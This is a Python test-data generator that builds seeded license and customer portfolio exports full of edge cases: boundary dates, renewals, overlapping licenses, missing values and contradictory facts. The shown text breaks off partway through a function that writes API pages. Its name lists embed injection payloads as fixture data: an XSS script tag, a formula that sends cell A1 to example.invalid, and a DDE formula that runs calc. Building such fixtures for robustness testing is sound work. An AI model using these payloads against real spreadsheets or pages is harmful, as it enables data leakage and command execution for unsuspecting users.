"""Portfolios that are valid, and as awkward as valid can be.

A rule is wrong at its edges: the day after, the second row, the missing number, the name that sorts oddly. A random
portfolio seldom stands there, so this generator walks from edge to edge and leaves to chance only which ones meet.
Everything follows from the seed: the same seed is the same portfolio, on every machine.
"""

from __future__ import annotations

import csv
import json
import random
import uuid
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import date, timedelta
from typing import TYPE_CHECKING

from .rules import Catalogue, Cell, Exports, Row

if TYPE_CHECKING:
    from pathlib import Path

LICENSE_TYPES = ("term", "usage", "ordered", "enterprise", "perpetual", "trial")
EDGE_DAYS = (
    *(0, 1, 29, 30, 31, 59, 60, 61, 90, 91, 180, 181, 364, 365, 366, 400, 401),
    *(-1, -2, -30, -31, -59, -60, -61, -62, -400),
)
"""Where section 4's states, what section 5 calls reactivatable, and the windows of section 11 begin and end."""

FAR_AWAY = date(9999, 12, 31)
LARGE = 2**31 - 1

HOSTILE_NAMES = (
    "<script>alert('x')</script>",
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "+49 30 1234",
    "-1+1",
    "@SUM(A1:A9)",
    "'=1",
    'The "Quoted" Company',
    '"',
    "Smith, Jones, and Sons",
    "Two\nLines Ltd",
    "=Two\n\nBlank, Lines",
    "Semi;colon; Ltd",
    "Tab\tInside",
    "Paragraph\u2028separator",
    "Next\u0085line",
    "\u05e9\u05dc\u05d5\u05dd Ltd",
    "\u202eDtl live",
    "\u0627\u0644\u0645\u062b\u0627\u0644",
    "\U0001f600 Smile",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 Family",
    "\ufb01nch (ligature)",
    "\u0130stanbul",
    "istanbul",
    "I\u0307stanbul",
    "\u0131stanbul",
    "Istanbul",
    "Stra\u00dfe",
    "STRA\u1e9eE",
    "STRASSE",
    "strasse",
    "\u039f\u0394\u03a5\u03a3\u03a3\u0395\u03a5\u03a3",
    "\u03bf\u03b4\u03c5\u03c3\u03c3\u03b5\u03c5\u03c2",
    "\u03bf\u03b4\u03c5\u03c3\u03c3\u03b5\u03c5\u03c3",
    "\u03a3 Sigma",
    "Cafe\u0301",
    "Caf\u00e9",
    "\u00c4rzte",
    "\u00e4rzte",
    "Zebra",
    "aardvark",
    "Aardvark",
    "00123",
    "1E5",
    "0",
    "true",
    "NaN",
    "None",
    "N/A",
    "2026-01-31",
    "50% & <b>more</b> {{x}} ${y} \\n",
    "#TYPE System.Data.DataRow",
    "a" * 300,
)
PLAIN_NAMES = ("Acme", "acme", "Borealis GmbH", "Cedar Clinic", "Dune Logistics", "Elm School", "Fjord Bank")

UNKNOWN_CODES = ("ZZZ-NEW", "NOT-IN-CATALOGUE", "=1+1", "-MSP", "code, with comma", 'code "q"', "x;y", "0042")
UNKNOWN_PRODUCT_NAMES = (
    "Brand New Product",
    "Brand New Product (renamed)",
    "=cmd|' /C calc'!A0",
    "+Plus, Product",
    'The "New" One',
    "Line\nBreak",
    "Line\u2028Separator",
    "\u00c9dition",
)

CUSTOMER_COLUMNS = (
    "customer_id", "account_name", "shown_as", "billing_type", "is_managed_order", "trial_started_by",
    "partner_assistance", "account_status", "contact_first_name", "contact_last_name", "contact_email",
    "contact_phone", "contact_mobile", "address_1", "city", "state", "postal_code", "country_code", "data_region",
    "data_geography", "api_host", "organization_id",
)  # fmt: skip
LICENSE_COLUMNS = (
    "license_id", "license_number", "customer_id", "product_code", "product_name", "product_generic_code",
    "license_type", "quantity", "is_unlimited", "is_perpetual", "start_date", "end_date", "used", "used_on",
)  # fmt: skip
ASSISTANCE_COLUMNS = ("customer_id", "partner_assistance", "checked_on", "basis")
FACT_COLUMNS = ("customer_id", "is_managed_order", "trial_started_by", "account_manager", "customer_group")

API_PAGE_SIZE = 50


@dataclass(frozen=True)
class Shape:
    """How the customer export and the facts put together one account type, in agreement or against each other."""

    billing_type: str | None
    is_managed_order: bool | None = None
    trial_started_by: str | None = None
    fact_is_managed_order: bool | None = None
    fact_trial_started_by: str | None = None

    @property
    def has_facts(self) -> bool:
        """Whether only a facts file tells the whole of it."""
        return self.fact_is_managed_order is not None or self.fact_trial_started_by is not None


SHAPES = (
    Shape("term"),
    Shape("usage"),
    Shape("trial"),
    Shape("term", is_managed_order=True),
    Shape("trial", trial_started_by="partner"),
    Shape("usage", fact_is_managed_order=True),
    Shape(None),
    Shape("usage", is_managed_order=True, fact_is_managed_order=False),
    Shape("trial", trial_started_by="customer", fact_trial_started_by="partner"),
    Shape("trial", is_managed_order=True),
    Shape("term", is_managed_order=False, fact_trial_started_by="partner"),
    Shape("trial", trial_started_by="partner", fact_trial_started_by="customer"),
    Shape("trial", trial_started_by="customer"),
    Shape(None, fact_is_managed_order=True),
    Shape("usage", is_managed_order=False, fact_is_managed_order=True, fact_trial_started_by="customer"),
    Shape("trial", fact_trial_started_by="partner"),
)


@dataclass(frozen=True)
class Person:
    """One customer of the portfolio, and where the exports know it from."""

    customer_id: str
    name: str
    shape: Shape
    is_in_customer_exports: bool
    leaves_flags_out: bool
    licenses: tuple[Row, ...]


def portfolio(seed: int, catalogue: Catalogue, customers: int = 60) -> Exports:
    """Build the portfolio of a seed: up to three snapshot days of each kind, around one as-of day.

    The first customer is in every snapshot of customers and of licenses, so that each of the chosen days exists even
    in a portfolio of one customer.
    """
    if customers < 1:
        raise ValueError("a portfolio has at least one customer")
    rng = random.Random(seed)
    as_of = rng.choice((date(2026, 1, 31), date(2024, 2, 29), date(2025, 12, 31), date(2026, 3, 1))) + timedelta(
        days=rng.choice((0, 0, 1, -1, 17))
    )
    people = _people(rng, catalogue, customers, as_of)

    customer_days = _snapshot_days(rng, as_of)
    # Half of the time the kinds come from one and the same day, as a monthly export does.
    license_days = customer_days if rng.random() < 0.5 else _snapshot_days(rng, as_of)
    assistance_days = customer_days if rng.random() < 0.5 else _snapshot_days(rng, as_of)
    fact_days = _snapshot_days(rng, as_of)
    if rng.random() < 0.1:
        fact_days = [as_of + timedelta(days=1)]

    license_rows, empty_answers = _license_rows(rng, people, license_days)
    return Exports(
        customers=_customer_rows(rng, people, customer_days),
        licenses=license_rows,
        assistance=_assistance_rows(rng, people, assistance_days, as_of),
        customer_facts=_fact_rows(rng, people, fact_days),
        empty_answers=empty_answers,
        catalogue=catalogue,
        as_of=as_of,
    )


def _snapshot_days(rng: random.Random, as_of: date) -> list[date]:
    """Two or three days, at least one of them not after as-of."""
    offsets = rng.sample((0, -1, -3, -14, -35, -90), rng.choice((1, 2, 2)))
    if len(offsets) == 1 or rng.random() < 0.5:
        offsets.append(rng.choice((1, 7, 30)))
    return [as_of + timedelta(days=offset) for offset in sorted(offsets)]


def _uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _people(rng: random.Random, catalogue: Catalogue, count: int, as_of: date) -> list[Person]:
    """Draw the customers; names come from a short list, so that some are equal or differ in case only."""
    hostile = rng.sample(HOSTILE_NAMES, len(HOSTILE_NAMES))
    shift = rng.randrange(len(SHAPES))
    people: list[Person] = []
    for number in range(count):
        customer_id = _uuid(rng)
        name = hostile[number] if number < len(hostile) and number % 4 else rng.choice(PLAIN_NAMES + HOSTILE_NAMES)
        leaves_flags_out = rng.random() < 0.25
        has_licenses = number == 0 or rng.random() < 0.82
        licenses: list[Row] = []
        if has_licenses:
            # One license type after the other against one shape after the other: all pairs within some portfolios.
            forced_type = LICENSE_TYPES[(number + number // len(SHAPES)) % len(LICENSE_TYPES)]
            licenses = _licenses(_Desk(rng, catalogue, as_of, leaves_flags_out), customer_id, forced_type)
            if people and people[-1].licenses and rng.random() < 0.2:
                # A license id is unique within its customer only.
                licenses[0]["license_id"] = people[-1].licenses[0]["license_id"]
        people.append(
            Person(
                customer_id=customer_id,
                name=name,
                shape=SHAPES[(number + shift) % len(SHAPES)],
                is_in_customer_exports=number == 0 or rng.random() < 0.88,
                leaves_flags_out=leaves_flags_out,
                licenses=_unique(licenses, "license_id"),
            )
        )
    return people


def _unique(rows: Iterable[Row], column: str) -> tuple[Row, ...]:
    kept: dict[Cell, Row] = {}
    for row in rows:
        kept.setdefault(row[column], row)
    return tuple(kept.values())


class _Desk:
    """Where the licenses of one customer are written: the chance, the codes and the as-of day they share."""

    def __init__(self, rng: random.Random, catalogue: Catalogue, as_of: date, leaves_flags_out: bool) -> None:
        self.rng = rng
        self.as_of = as_of
        self.leaves_flags_out = leaves_flags_out
        self.catalogue = catalogue
        known = list(catalogue)
        # A few codes, so that licenses of one customer meet in a category; some of them strangers to the catalogue,
        # of which one differs from a known code by its case only.
        self.codes = [rng.choice(known) for _ in range(2)] if known else []
        if rng.random() < 0.35 or not known:
            other_case = [code.swapcase() for code in known if code.swapcase() not in catalogue]
            strangers = [code for code in UNKNOWN_CODES if code not in catalogue]
            self.codes.append(rng.choice(other_case) if other_case and rng.random() < 0.2 else rng.choice(strangers))

    def code(self) -> str:
        return self.rng.choice(self.codes)

    def wider(self, code: str) -> str:
        """Another product with all the categories of this one and more, if the catalogue has any, else the same."""
        held = set(self.catalogue[code][1]) if code in self.catalogue else set()
        found = [other for other, (_name, categories) in self.catalogue.items() if held and held < set(categories)]
        return self.rng.choice(found) if found else code

    def day(self, offset: int) -> date:
        return self.as_of + timedelta(days=offset)

    def license(
        self, code: str, license_type: str, start: date, end: date | None, *, is_perpetual: bool = False
    ) -> Row:
        """Write one valid row: it never ends before it starts, and no number is below zero."""
        rng = self.rng
        quantity: int | None = rng.choice((None, 0, 1, 5, 10, 25, 100, 100, 250))
        if rng.random() < 0.02:
            quantity = LARGE
        used: int | None = rng.choice((None, None, 0, 1, 10, 25, 101, 300))
        if rng.random() < 0.02:
            used = LARGE
        is_unlimited = rng.random() < 0.12
        name: str | None = None
        if rng.random() < 0.6:
            name = rng.choice(UNKNOWN_PRODUCT_NAMES)
        return {
            "license_id": self._license_id(),
            "license_number": None if self.leaves_flags_out and rng.random() < 0.5 else rng.choice(("D590962015", "7")),
            "product_code": code,
            "product_name": name,
            "product_generic_code": rng.choice((None, "GENERIC", "00")),
            "license_type": license_type,
            "quantity": quantity,
            "is_unlimited": True if is_unlimited else self._false(),
            "is_perpetual": True if is_perpetual else self._false(),
            "start_date": start if end is None else min(start, end),
            "end_date": end,
            "used": used,
            "used_on": self.day(-2) if used is not None and rng.random() < 0.5 else None,
        }

    def _false(self) -> bool | None:
        return None if self.leaves_flags_out and self.rng.random() < 0.5 else False

    def _license_id(self) -> str:
        """Draw an id; "lic-9" and "lic-10" are there because the lowest id is one of text, not of numbers."""
        shape = self.rng.randrange(4)
        if shape == 0:
            return _uuid(self.rng)
        if shape == 1:
            return "-".join(f"{self.rng.randrange(16**4):04X}" for _ in range(4))
        if shape == 2:
            return f"lic-{self.rng.randrange(100_000)}"
        return f"{self.rng.randrange(10_000_000):07d}"


# Each scene writes licenses that meet at one edge of the rules.

Scene = Callable[[_Desk], list[Row]]


def _on_an_edge(desk: _Desk) -> list[Row]:
    """A license of any type that ends on one of the days where a state begins or ends."""
    offset = desk.rng.choice(EDGE_DAYS)
    return [desk.license(desk.code(), desk.rng.choice(LICENSE_TYPES), desk.day(min(offset, 0) - 300), desk.day(offset))]


def _far_ahead(desk: _Desk) -> list[Row]:
    """Licenses that end where one of the later windows begins or ends."""
    code = desk.code()
    ends = desk.rng.sample((60, 61, 90, 91, 180, 181, 365, 366, 400, 401), 3)
    return [desk.license(code, desk.rng.choice(LICENSE_TYPES), desk.day(-60), desk.day(end)) for end in ends]


def _one_day_only(desk: _Desk) -> list[Row]:
    """A license that starts and ends on one day: yesterday, on the as-of day, or tomorrow."""
    day = desk.day(desk.rng.choice((-1, 0, 1)))
    return [desk.license(desk.code(), desk.rng.choice(LICENSE_TYPES), day, day)]


def _starts_around_today(desk: _Desk) -> list[Row]:
    start = desk.day(desk.rng.choice((-1, 0, 1)))
    end = desk.rng.choice((None, desk.day(31), desk.day(365), FAR_AWAY))
    return [desk.license(desk.code(), desk.rng.choice(LICENSE_TYPES), start, end)]


def _renewed(desk: _Desk) -> list[Row]:
    """An expiring license and its renewal: early, on the last day, the day after, or one or two days too late."""
    ends, gap = desk.rng.choice((0, 1, 12, 29, 30, 31)), desk.rng.choice((-1, 0, 1, 1, 1, 2, 2, 3))
    code, kind = desk.code(), desk.rng.choice(("term", "term", "usage", "ordered", "enterprise"))
    renewal_type = desk.rng.choice((kind, kind, "usage", "trial", "term", "perpetual"))
    start = max(ends + gap, 1)
    end = desk.rng.choice((desk.day(start + 364), desk.day(start + 364), desk.day(start), None))
    return [
        desk.license(code, kind, desk.day(-335), desk.day(ends)),
        desk.license(
            desk.rng.choice((code, code, desk.code())),
            renewal_type,
            desk.day(start),
            end,
            is_perpetual=renewal_type == "perpetual" and desk.rng.random() < 0.7,
        ),
    ]


def _chain_of_renewals(desk: _Desk) -> list[Row]:
    """A renewal of the renewal: the second starts after the first ends, so it qualifies for nothing by itself."""
    code = desk.code()
    return [
        desk.license(code, "term", desk.day(-300), desk.day(10)),
        desk.license(code, "term", desk.day(11), desk.day(40)),
        desk.license(code, "term", desk.day(41), desk.day(400)),
    ]


def _two_expiring_one_renewal(desk: _Desk) -> list[Row]:
    """Too late for the first of two expiring licenses, in time for the last of them."""
    code = desk.code()
    return [
        desk.license(code, "term", desk.day(-300), desk.day(3)),
        desk.license(desk.code(), "enterprise", desk.day(-300), desk.day(20)),
        desk.license(code, "term", desk.day(desk.rng.choice((5, 20, 21, 22))), desk.day(380)),
        desk.license(code, "term", desk.day(8), desk.day(desk.rng.choice((9, 500)))),
    ]


def _overlap(desk: _Desk) -> list[Row]:
    """Rows of one product that are in force at once: they add up."""
    code, kind = desk.code(), desk.rng.choice(("term", "usage", "ordered", "trial"))
    return [
        desk.license(code, kind, desk.day(-200 + number), desk.day(desk.rng.choice((15, 90, 200))))
        for number in range(desk.rng.choice((2, 3)))
    ]


def _perpetual(desk: _Desk) -> list[Row]:
    """Perpetual, by its type, by its flag or by both, with and without an end date, even one that is over."""
    license_type = desk.rng.choice(("perpetual", "perpetual", "perpetual", "term", "trial"))
    is_perpetual = license_type != "perpetual" or desk.rng.random() < 0.7
    start = desk.rng.choice((-900, -900, 5))
    end = desk.rng.choice((None, -20, 20, 200))
    return [
        desk.license(
            desk.code(),
            license_type,
            desk.day(start),
            None if end is None else desk.day(max(start, end)),
            is_perpetual=is_perpetual,
        )
    ]


def _perpetual_beside_expiring(desk: _Desk) -> list[Row]:
    code = desk.code()
    end = desk.rng.choice((None, desk.day(400)))
    return [
        desk.license(code, "perpetual", desk.day(desk.rng.choice((-500, 4))), end, is_perpetual=True),
        desk.license(code, "term", desk.day(-300), desk.day(desk.rng.choice((5, 200)))),
    ]


def _no_end(desk: _Desk) -> list[Row]:
    """No end date: in force for usage and ordered, unknown for every other type."""
    return [desk.license(desk.code(), desk.rng.choice(LICENSE_TYPES), desk.day(-100), None)]


def _trial_beside_paid(desk: _Desk) -> list[Row]:
    """A trial next to a paid license that is over, not begun, or of unknown end."""
    code = desk.code()
    paid_start, paid_end = desk.rng.choice(((-400, -10), (3, 300), (-400, None), (-400, 12)))
    return [
        desk.license(code, "trial", desk.day(-15), desk.day(desk.rng.choice((15, 45, -3)))),
        desk.license(code, "term", desk.day(paid_start), None if paid_end is None else desk.day(paid_end)),
    ]


def _flex_beside_term(desk: _Desk) -> list[Row]:
    """Money possibly spent twice: both models in force, for one product or for two of one category."""
    code = desk.code()
    return [
        desk.license(code, "usage", desk.day(-60), desk.rng.choice((None, desk.day(5)))),
        desk.license(
            desk.rng.choice((code, desk.code())),
            "term",
            desk.day(-60),
            desk.day(desk.rng.choice((5, 300, -1))),
        ),
    ]


def _unlimited_beside_limited(desk: _Desk) -> list[Row]:
    """An unlimited license in a group with a limited one, and one whose quantity is missing."""
    code = desk.code()
    rows = [desk.license(code, "term", desk.day(-50), desk.day(100)) for _ in range(3)]
    rows[0]["is_unlimited"] = True
    rows[0]["quantity"] = desk.rng.choice((None, 50))
    rows[1]["quantity"] = None
    return rows if desk.rng.random() < 0.5 else rows[1:]


def _large_numbers(desk: _Desk) -> list[Row]:
    """Two quantities that fit 32 bits, while their sum does not."""
    code = desk.code()
    rows = [desk.license(code, "term", desk.day(-50), desk.day(100)) for _ in range(2)]
    for row in rows:
        row["quantity"], row["is_unlimited"] = LARGE, False
    return rows


def _all_over(desk: _Desk) -> list[Row]:
    """Nothing but expired licenses: the later end decides whether they can be reactivated."""
    code = desk.code()
    return [
        desk.license(code, desk.rng.choice(LICENSE_TYPES), desk.day(-700), desk.day(desk.rng.choice((-59, -60, -61)))),
        desk.license(code, desk.rng.choice(LICENSE_TYPES), desk.day(-700), desk.day(desk.rng.choice((-61, -300)))),
    ]


def _taken_over(desk: _Desk) -> list[Row]:
    """Some that end one after the other, and what takes over from them: too few seats, enough, or nobody knows."""
    rng, code = desk.rng, desk.code()
    ends = [
        rng.choice((-75, -61, -60, -31, -1, 0, 10, 29, 30, 31, 60, 90, 91, 170))
        for _ in range(rng.choice((1, 2, 2, 3)))
    ]
    kinds = (*("term",) * 6, "enterprise", "ordered", "ordered", "usage", "perpetual", "trial")
    rows = [desk.license(code, rng.choice(kinds), desk.day(-500), desk.day(end)) for end in ends]
    for _ in range(rng.choice((1, 1, 2, 3))):
        end = rng.choice(ends)
        start = end + rng.choice((-91, -90, -90, -89, -30, 0, 1, 1, 1, 2))
        last = rng.choice((None, end, end + 1, start + 364, start + 364, start + 364))
        kind = rng.choice(kinds)
        rows.append(
            desk.license(
                rng.choice((code, code, desk.wider(code), desk.code())),
                kind,
                desk.day(start),
                None if last is None else desk.day(max(start, last)),
                is_perpetual=kind == "perpetual" and rng.random() < 0.5,
            )
        )
    for row in rows:
        if rng.random() < 0.85:
            row["quantity"], row["is_unlimited"] = rng.choice((3, 5, 10, 10, 20)), False
    return rows


def _ends_beside_another(desk: _Desk) -> list[Row]:
    """One that ends soon or ended lately, paid or a trial, beside a product with more categories or with fewer."""
    rng, code = desk.rng, desk.code()
    ending, beside = rng.choice(((code, desk.wider(code)), (desk.wider(code), code)))
    end = rng.choice((-61, -60, -20, -1, 0, 12, 30, 31))
    start, last = rng.choice(((-700, 200), (-700, None), (end + 2, 400), (-700, end)))
    return [
        desk.license(ending, rng.choice(("term", "trial")), desk.day(-400), desk.day(end)),
        desk.license(
            beside,
            rng.choice(("term", "usage", "trial", "perpetual")),
            desk.day(start),
            None if last is None else desk.day(last),
        ),
    ]


SCENES: tuple[Scene, ...] = (
    _taken_over,
    _taken_over,
    _ends_beside_another,
    _ends_beside_another,
    _on_an_edge,
    _on_an_edge,
    _far_ahead,
    _one_day_only,
    _starts_around_today,
    _renewed,
    _renewed,
    _chain_of_renewals,
    _two_expiring_one_renewal,
    _overlap,
    _perpetual,
    _perpetual_beside_expiring,
    _no_end,
    _trial_beside_paid,
    _flex_beside_term,
    _unlimited_beside_limited,
    _large_numbers,
    _all_over,
)


def _licenses(desk: _Desk, customer_id: str, forced_type: str) -> list[Row]:
    rows: list[Row] = []
    if desk.rng.random() < 0.1:
        # Nothing but what ended long ago.
        rows = _all_over(desk)[1:]
    elif desk.rng.random() < 0.6:
        rows.append(desk.license(desk.code(), forced_type, desk.day(-20), desk.day(desk.rng.choice((10, 30, 31, 200)))))
    is_over = rows and all(isinstance(end := row["end_date"], date) and end < desk.as_of for row in rows)
    for scene in () if is_over else desk.rng.sample(SCENES, desk.rng.choice((0, 1, 1, 1, 2, 3))):
        rows.extend(scene(desk))
    if not is_over and desk.rng.random() < 0.4:
        rows.extend(_taken_over(desk))
    if not rows:
        rows.extend(_on_an_edge(desk))
    for row in rows:
        row["customer_id"] = customer_id
    return rows


# From the customers to what was exported on each day.


def _customer_rows(rng: random.Random, people: Sequence[Person], days: Iterable[date]) -> list[Row]:
    """Write who is listed on each day: customers come and go, are renamed, and change their billing."""
    rows: list[Row] = []
    for day in days:
        for number, person in enumerate(people):
            if not person.is_in_customer_exports or (number > 0 and rng.random() < 0.12):
                continue
            shape = person.shape if rng.random() < 0.9 else rng.choice(SHAPES)
            shown_as = rng.choice((None, None, person.name, rng.choice(HOSTILE_NAMES + PLAIN_NAMES)))
            has_contact = rng.random() < 0.5
            rows.append(
                {
                    "snapshot_date": day,
                    "customer_id": person.customer_id,
                    "account_name": person.name,
                    "shown_as": shown_as,
                    "billing_type": shape.billing_type,
                    "is_managed_order": shape.is_managed_order,
                    "trial_started_by": shape.trial_started_by,
                    "partner_assistance": rng.choice((None, None, "on", "off")),
                    "account_status": rng.choice((None, "active", "suspended", "canceled")),
                    **contact_of(rng),
                    "address_1": "1 High Street\nFloor 2" if has_contact else None,
                    "city": "Malm\u00f6" if has_contact else None,
                    "state": None,
                    "postal_code": "01234" if has_contact else None,
                    "country_code": "SE" if has_contact else None,
                    "data_region": rng.choice((None, "eu01")),
                    "data_geography": rng.choice((None, "DE")),
                    "api_host": rng.choice((None, "https://api-eu01.example.invalid")),
                    "organization_id": None,
                }
            )
    return rows


def contact_of(rng: random.Random) -> Row:
    """Draw a contact of which any part can be missing."""
    return {
        "contact_first_name": rng.choice((None, "\u00c5sa", "=Ada")),
        "contact_last_name": rng.choice((None, "O'Neil", "=Contact", "de, Vries")),
        "contact_email": rng.choice((None, "asa@example.invalid")),
        "contact_phone": rng.choice((None, "+46 8 000", "08 000")),
        "contact_mobile": rng.choice((None, None, "070 000")),
    }


def _license_rows(
    rng: random.Random, people: Sequence[Person], days: Iterable[date]
) -> tuple[list[Row], frozenset[tuple[date, str]]]:
    """Write the licenses of each day, which differ from day to day, and the answers that held none."""
    rows: list[Row] = []
    empty_answers: set[tuple[date, str]] = set()
    for day in days:
        for number, person in enumerate(people):
            is_exported = number == 0 or rng.random() > 0.08
            kept = [row for row in person.licenses if is_exported and rng.random() > 0.06]
            if number == 0 and not kept:
                kept = list(person.licenses)
            rows.extend(_later(rng, row, day) for row in kept)
            # Rows and an empty answer for one customer contradict each other; then the rows are what is known.
            if (not kept and rng.random() < 0.5) or (kept and number > 0 and rng.random() < 0.02):
                empty_answers.add((day, person.customer_id))
    return rows, frozenset(empty_answers)


def _later(rng: random.Random, row: Row, day: date) -> Row:
    changed = {"snapshot_date": day} | row
    if rng.random() < 0.2:
        changed["quantity"] = rng.choice((None, 0, 3, 40))
    if rng.random() < 0.2:
        changed["used"] = rng.choice((None, 0, 2, 41))
        changed["used_on"] = None
    end = changed["end_date"]
    if isinstance(end, date) and end < FAR_AWAY and rng.random() < 0.08:
        changed["end_date"] = end + timedelta(days=rng.choice((1, 30, 365)))
    return changed


def _assistance_rows(rng: random.Random, people: Sequence[Person], days: Sequence[date], as_of: date) -> list[Row]:
    """Write evidence that agrees, contradicts itself, has no day, comes late, or is about a stranger."""
    stranger = _uuid(rng)
    rows: list[Row] = []
    for snapshot_date in days:
        taken: set[tuple[str, date, str]] = set()
        for customer_id in [person.customer_id for person in people if rng.random() < 0.55] + [stranger]:
            pieces: list[tuple[str, date | None, str | None]] = []
            for _ in range(rng.choice((1, 1, 2, 3))):
                offset = rng.choice((0, 0, -1, -3, -14, -35, -36, 1, 7))
                checked_on = rng.choice((None, as_of + timedelta(days=offset), rng.choice(days)))
                pieces.append((rng.choice(("on", "off")), checked_on, rng.choice((None, "stated", "observed"))))
            if rng.random() < 0.3:
                # What was stated and what was observed on one day contradict each other.
                says, day = rng.choice(("on", "off")), rng.choice((None, as_of, as_of - timedelta(days=1)))
                pieces += [
                    (says, day, "observed"),
                    ("off" if says == "on" else "on", day, rng.choice((None, "stated"))),
                ]
            for says, checked_on, basis in pieces:
                key = (customer_id, checked_on or snapshot_date, basis or "stated")
                if key in taken:
                    continue
                taken.add(key)
                rows.append(
                    {
                        "snapshot_date": snapshot_date,
                        "customer_id": customer_id,
                        "partner_assistance": says,
                        "checked_on": checked_on,
                        "basis": basis,
                    }
                )
    return rows


def _fact_rows(rng: random.Random, people: Sequence[Person], days: Iterable[date]) -> list[Row]:
    """Write facts, which change from day to day, some of them about customers that no export knows."""
    stranger = _uuid(rng)
    rows: list[Row] = []
    for snapshot_date in days:
        for person in people:
            shape = person.shape
            if not person.is_in_customer_exports:
                # The account type of a customer that no export knows stays unknown, whatever the facts say.
                shape = Shape(None, fact_is_managed_order=True, fact_trial_started_by="partner")
            elif rng.random() < 0.1:
                shape = rng.choice(SHAPES)
            if rng.random() < (0.9 if shape.has_facts else 0.2):
                rows.append(_fact(rng, snapshot_date, person.customer_id, shape))
        rows.append(_fact(rng, snapshot_date, stranger, Shape(None, fact_is_managed_order=True)))
    return rows


def _fact(rng: random.Random, snapshot_date: date, customer_id: str, shape: Shape) -> Row:
    return {
        "snapshot_date": snapshot_date,
        "customer_id": customer_id,
        "is_managed_order": shape.fact_is_managed_order,
        "trial_started_by": shape.fact_trial_started_by,
        "account_manager": rng.choice((None, "=Manager", "Ana Lima")),
        "customer_group": rng.choice((None, "North")),
    }


# Writing the files.


def write_exports(exports: Exports, folder: Path) -> list[tuple[Path, str, date]]:
    """Write the exports as files and return each with its kind and its snapshot day.

    Only a CSV file can say everything; an API answer carries what the API has. So a row goes into an answer where
    nothing of it would get lost, else into the CSV file of its day: a snapshot is the union of both.
    """
    folder.mkdir(parents=True, exist_ok=True)
    written = _write_customers(folder, exports) + _write_licenses(folder, exports)
    for kind, columns, rows in (
        ("assistance", ASSISTANCE_COLUMNS, exports.assistance),
        ("customer_facts", FACT_COLUMNS, exports.customer_facts),
    ):
        for day, rows_of_day in _by_day(rows).items():
            written.append((_write_csv(folder / f"{kind}_{day}.csv", columns, rows_of_day), kind, day))
    return written


def _write_customers(folder: Path, exports: Exports) -> list[tuple[Path, str, date]]:
    """Write one snapshot as API pages where it can be, the next as CSV alone, and so on."""
    written: list[tuple[Path, str, date]] = []
    for number, (day, rows) in enumerate(_by_day(exports.customers).items()):
        has_pages = number % 2 == 0
        items = [row for row in rows if has_pages and _fits_customer_api(row)]
        in_csv = [row for row in rows if not (has_pages and _fits_customer_api(row))]
        written.extend((path, "customers", day) for path in _write_customer_pages(folder, day, items))
        if in_csv:
            path = _write_csv(folder / f"customers_{day}.csv", CUSTOMER_COLUMNS, in_csv)
            written.append((path, "customers", day))
    return written


def _write_licenses(folder: Path, exports: Exports) -> list[tuple[Path, str, date]]:
    """Write each customer's licenses of a day either as its API answer or as rows of the day's CSV file."""
    rows_by_day = _by_day(exports.licenses)
    answered_by_day: dict[date, list[str]] = {}
    for day, customer_id in sorted(exports.empty_answers):
        answered_by_day.setdefault(day, []).append(customer_id)

    written: list[tuple[Path, str, date]] = []
    for day in sorted(set(rows_by_day) | set(answered_by_day)):
        answered = answered_by_day.get(day, [])
        answers: dict[str, list[dict[str, object]]] = {customer_id: [] for customer_id in answered}
        by_customer: dict[str, list[Row]] = {}
        for row in rows_by_day.get(day, []):
            by_customer.setdefault(str(row["customer_id"]), []).append(row)
        in_csv: list[Row] = []
        for customer_id, rows in by_customer.items():
            is_odd = int(customer_id[0], 16) % 2 == 1
            if is_odd and customer_id not in answers and all(_fits_license_api(row) for row in rows):
                answers[customer_id] = [_api_license(row) for row in rows]
            else:
                in_csv.extend(rows)
        if answers:
            path = folder / f"licenses_{day}.jsonl"
            envelopes = [{"tenant": {"id": customer_id}, "licenses": held} for customer_id, held in answers.items()]
            lines = [json.dumps(envelope, ensure_ascii=False) + "\n" for envelope in envelopes]
            path.write_text("".join(lines), encoding="utf-8", newline="\n")
            written.append((path, "licenses", day))
        if in_csv:
            written.append((_write_csv(folder / f"licenses_{day}.csv", LICENSE_COLUMNS, in_csv), "licenses", day))
    return written


def _by_day(rows: Iterable[Row]) -> dict[date, list[Row]]:
    days: dict[date, list[Row]] = {}
    for row in rows:
        day = row["snapshot_date"]
        if not isinstance(day, date):
            raise TypeError(f"a row without a snapshot day: {row}")
        days.setdefault(day, []).append(row)
    return dict(sorted(days.items()))


def _cell(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return value.isoformat() if isinstance(value, date) else str(value)


def _write_csv(path: Path, columns: Sequence[str], rows: Iterable[Row]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, lineterminator="\n")
        writer.writerow(columns)
        writer.writerows([_cell(row.get(column)) for column in columns] for row in rows)
    return path


def _fits_customer_api(row: Row) -> bool:
    """Tell whether the tenants API can say all of this row: it has no assistance, no order and no trial starter."""
    lacks = ("is_managed_order", "trial_started_by", "partner_assistance")
    return row["billing_type"] is not None and all(row[column] is None for column in lacks)


def _api_customer(row: Row, number: int) -> dict[str, object]:
    # The vendor writes some ids as a URN; the customer is the same.
    prefix = "urn:uuid:" if number % 3 == 2 else ""
    address = {
        "address1": row["address_1"],
        "city": row["city"],
        "state": row["state"],
        "countryCode": row["country_code"],
        "postalCode": row["postal_code"],
    }
    contact = {
        "firstName": row["contact_first_name"],
        "lastName": row["contact_last_name"],
        "email": row["contact_email"],
        "phone": row["contact_phone"],
        "mobile": row["contact_mobile"],
        "address": _known(address) or None,
    }
    optional = {
        "showAs": row["shown_as"],
        "status": row["account_status"],
        "contact": _known(contact) or None,
        "organization": None if row["organization_id"] is None else {"id": row["organization_id"]},
    }
    return {
        "id": prefix + str(row["customer_id"]),
        "name": row["account_name"],
        "billingType": row["billing_type"],
        # "required by the specification, null in practice"
        "dataGeography": row["data_geography"],
        "dataRegion": row["data_region"],
        "apiHost": row["api_host"],
        # An optional field is missing in some items and null in others: both mean "not known".
        **(_known(optional) if number % 2 else optional),
    }


def _known(values: Mapping[str, object]) -> dict[str, object]:
    return {key: value for key, value in values.items() if value is not None}


def _write_customer_pages(folder: Path, day: date, rows: Sequence[Row]) -> list[Path]:
    """Write as many pages as the API would need, each with the totals that show none is missing."""
    starts = range(0, len(rows), API_PAGE_SIZE)
    paths: list[Path] = []
